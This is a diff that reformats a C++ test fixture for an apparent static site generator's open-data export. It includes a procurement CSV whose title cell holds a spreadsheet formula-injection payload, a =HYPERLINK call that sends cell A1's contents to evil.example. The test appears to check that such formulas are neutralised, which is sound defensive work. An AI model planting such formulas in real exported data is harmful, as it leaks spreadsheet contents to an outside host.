@@ -50,9 +50,9 @@ TEST_SUITE("opendata") {
                             {"content/plans/p/index.md", "---\ntitle: P\ntype: plan\n---\n"},
                             {"content/plans/p/plan.json", plan},
                             {"content/procurement/index.md", "---\ntitle: Contracts\ntype: pipeline\ndate: 2020-03-16\n---\n"},
-                            {"content/procurement/pipeline.csv",
-                             "title,value,start,department,notes\n\"" + std::string(R"x(=HYPERLINK(""http://evil.example/?x=""&A1,""Click""))x") +
-                                 "\",5,01/02/2020,@Corporate,-1 on last year\n"}});
+                            {"content/procurement/pipeline.csv", "title,value,start,department,notes\n\"" +
+                                                                     std::string(R"x(=HYPERLINK(""http://evil.example/?x=""&A1,""Click""))x") +
+                                                                     "\",5,01/02/2020,@Corporate,-1 on last year\n"}});
     const auto output = site.generate();
     REQUIRE_MESSAGE(output, testing::all_messages(site.diagnostics));
     const auto& files = output->files;
